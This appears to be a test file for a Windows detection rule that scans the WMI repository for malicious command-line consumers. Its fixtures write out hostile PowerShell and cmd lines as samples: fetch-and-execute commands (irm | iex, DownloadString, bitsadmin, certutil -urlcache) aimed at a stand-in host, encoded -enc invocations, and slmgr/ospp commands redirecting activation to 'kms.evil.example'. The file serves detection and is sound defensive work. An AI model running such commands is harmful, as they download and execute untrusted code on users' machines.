// Commands in the WMI repository, in both widths; definitions of classes and Microsoft's own consumers beside them.
import { test } from 'uvu';
import { wmiConsumer } from '../../../rules/activation/wmi-consumer.ts';
import { windowsRuleTester } from '../../helpers/on-windows.ts';

const PLACE = '/Windows/System32/wbem/Repository/OBJECTS.DATA';
const parts = (...texts: (string | Uint8Array)[]) =>
  Buffer.concat(
    texts.flatMap((text) => [Buffer.from([0, 1, 2, 0]), typeof text === 'string' ? Buffer.from(`${text}\0`) : text, Buffer.from([0, 0])]),
  );
const wide = (text: string) => Buffer.from(text, 'utf16le');
const CLASSES = parts(
  'CommandLineEventConsumer',
  'SoftwareLicensingService',
  'SetKeyManagementServiceMachine',
  'InstallProductKey',
  'cmd.exe ',
);
const OWN = parts('BVTConsumer', 'cscript KernCap.vbs', 'SCM Event Log Consumer');
const activate = (host: string) => `cscript.exe //b C:\\Windows\\System32\\slmgr.vbs /skms ${host}`;
const at = (offset: number, file = PLACE) => ({ file, offset });
const ENCODED = 'ZQBjAGgAbwAgAGgAZQBsAGwAbwAgAHcAbwByAGwAZAA=';

windowsRuleTester(wmiConsumer, {
  good: [
    { name: 'a folder of that name', image: { files: { [PLACE]: { folder: true, unreadable: 'is a folder' } } } },
    {
      name: 'bytes that are no letters',
      image: { files: { [PLACE]: parts(Buffer.from(activate('203.0.113.7').split('').join('\x9a'), 'latin1')) } },
    },
    {
      name: 'a program and a command apart, with a byte between that is no letter',
      image: { files: { [PLACE]: parts(Buffer.from('cscript.exe C:\\Corp\\a.vbs \x9aslmgr.vbs /skms 203.0.113.7', 'latin1')) } },
    },
    { name: 'no repository', image: { files: {} } },
    { name: 'classes and the consumers of Windows', image: { files: { [PLACE]: Buffer.concat([CLASSES, OWN]) } } },
    {
      name: 'an allowed host',
      policy: { kmsHosts: ['kms.corp.example'] },
      image: { files: { [PLACE]: parts(activate('kms.corp.example')) } },
    },
    {
      name: 'a command that only asks',
      image: { files: { [PLACE]: parts('cscript.exe slmgr.vbs /dlv', 'powershell.exe -File C:\\Corp\\inventory.ps1') } },
    },
    { name: 'a text that names the switch', image: { files: { [PLACE]: parts('slmgr.vbs /skms activates at a host') } } },
    { name: 'another file', image: { files: { '/Users/Public/OBJECTS.DATA': parts(activate('203.0.113.7')) } } },
  ],
  bad: [
    {
      name: 'a command line',
      image: { files: { [PLACE]: parts(activate('203.0.113.7')) } },
      findings: [{ messageId: 'activates', at: at(4), says: /203\.0\.113\.7/ }],
    },
    {
      name: 'the allowed host at another port',
      policy: { kmsHosts: ['kms.corp.example'] },
      image: { files: { [PLACE]: parts(activate('kms.corp.example:9999')) } },
      findings: [{ messageId: 'activates', at: at(4), says: /kms\.corp\.example:9999/ }],
    },
    {
      name: 'another host than the allowed one, two bytes a letter',
      policy: { kmsHosts: ['kms.corp.example'] },
      image: { files: { [PLACE]: parts(wide(activate('kms.evil.example'))) } },
      findings: [{ messageId: 'activates', at: at(4), says: /kms\.evil\.example/ }],
    },
    ...['\t', '\n', '\r'].map((space) => ({
      name: `with the space ${JSON.stringify(space)}`,
      image: { files: { [PLACE]: parts(activate('203.0.113.7').replace(' //b ', space)) } },
      findings: [{ messageId: 'activates', at: at(4) }],
    })),
    {
      name: 'two bytes a letter, right behind a text of one byte a letter',
      image: {
        files: { [PLACE]: Buffer.concat([Buffer.alloc(4), Buffer.from('somewhat'), wide(activate('203.0.113.7')), Buffer.alloc(4)]) },
      },
      findings: [{ messageId: 'activates', at: at(12) }],
    },
    ...['$a = irm https://x.example/a; iex $a', 'iex (irm https://x.example/a)', 'invoke-expression (iwr https://x.example/a)'].map(
      (command) => ({
        name: `a text that is fetched and run: ${command}`,
        image: { files: { [PLACE]: parts(`powershell -c "${command}"`) } },
        findings: [{ messageId: 'fetches', at: at(4) }],
      }),
    ),
    {
      name: 'a repository that cannot be read',
      image: { files: { [PLACE]: { content: 'x', unreadable: 'is torn' } } },
      findings: [],
      unable: 'is torn',
    },
    {
      name: 'more texts than are looked at',
      image: { files: { [PLACE]: Buffer.alloc(13 * 2_000_001, 'twelveletter\0') } },
      findings: [],
      unable: 'holds more texts than are looked at',
    },
    {
      name: 'at an odd place',
      image: { files: { [PLACE]: Buffer.concat([Buffer.from([1]), parts(wide(activate('127.0.0.2')))]) } },
      findings: [{ messageId: 'activates', at: at(5) }],
    },
    {
      name: 'a script',
      image: {
        files: {
          [PLACE]: parts(
            'Set s = GetObject("winmgmts:").ExecQuery("select * from SoftwareLicensingService")\ns.SetKeyManagementServiceMachine("kms.evil.example")',
          ),
        },
      },
      findings: [{ messageId: 'activates', at: at(4), says: /kms\.evil\.example/ }],
    },
    {
      name: 'Office',
      image: { files: { [PLACE]: parts('cmd.exe /c cscript ospp.vbs /sethst:kms.evil.example') } },
      findings: [{ messageId: 'activates', at: at(4) }],
    },
    {
      name: 'something fetched',
      image: { files: { [PLACE]: parts('powershell.exe -nop -c "irm https://x.example/a | iex"') } },
      findings: [{ messageId: 'fetches', at: at(4) }],
    },
    ...['irm', 'iwr', 'invoke-restmethod', 'invoke-webrequest', 'curl'].flatMap((fetch) =>
      ['| iex', '; invoke-expression $x'].map((run) => ({
        name: `something fetched by ${fetch} ${run}`,
        image: { files: { [PLACE]: parts(`powershell.exe -c "$x = ${fetch} https://x.example/a ${run}"`) } },
        findings: [{ messageId: 'fetches', at: at(4) }],
      })),
    ),
    ...[
      '(New-Object Net.WebClient).DownloadString("https://x.example") | & $r',
      '(New-Object Net.WebClient).DownloadFile("https://x.example", "C:\\a.exe")',
    ]
      .concat('bitsadmin /transfer x https://x.example C:\\a.exe', 'certutil -urlcache -f https://x.example C:\\a.ps1')
      .map((line) => ({
        name: `something fetched: ${line.slice(0, 40)}`,
        image: { files: { [PLACE]: parts(`cmd.exe /c ${line}`) } },
        findings: [{ messageId: 'fetches', at: at(4) }],
      })),
    ...['cscript', 'wscript.exe', 'powershell', 'pwsh', 'mshta', 'rundll32', 'regsvr32', 'cmd'].map((program) => ({
      name: `started by ${program}`,
      image: { files: { [PLACE]: parts(`${program} slmgr.vbs /skms 203.0.113.7`) } },
      findings: [{ messageId: 'activates', at: at(4) }],
    })),
    ...['Set s = CreateObject("x")', 'Set s = GetObject("x")', 's.ExecQuery("x")'].map((line) => ({
      name: `a script with ${line}`,
      image: { files: { [PLACE]: parts(`${line}\n\ts.SetKeyManagementServiceMachine("203.0.113.7")\r\n`) } },
      findings: [{ messageId: 'activates', at: at(4) }],
    })),
    ...['c', 'n', 'nc', '', 'ncodedCommand'].map((rest) => ({
      name: `something encoded by -e${rest}`,
      image: { files: { [PLACE]: parts(`powershell -e${rest} ${ENCODED}`) } },
      findings: [{ messageId: 'encoded', at: at(4) }],
    })),
    {
      name: 'very many commands, cut',
      image: { files: { [PLACE]: parts(...Array.from({ length: 55 }, (_, host) => activate(`203.0.113.${host}`))) } },
      findings: Array.from({ length: 50 }, () => ({ messageId: 'activates', at: { file: PLACE } })),
    },
    {
      name: 'something encoded',
      image: { files: { [PLACE]: parts(`powershell.exe -w 1 -enc ${ENCODED}`) } },
      findings: [{ messageId: 'encoded', at: at(4), severity: 'warning' }],
    },
    {
      name: 'in the older folder',
      image: { files: { '/Windows/System32/wbem/Repository/FS/OBJECTS.DATA': parts(activate('203.0.113.7')) } },
      findings: [{ messageId: 'activates', at: at(4, '/Windows/System32/wbem/Repository/FS/OBJECTS.DATA') }],
    },
    { name: 'unreadable', image: { files: { [PLACE]: { content: 'x', unreadable: 'is damaged' } } }, findings: [], unable: 'is damaged' },
  ],
});

test.run();
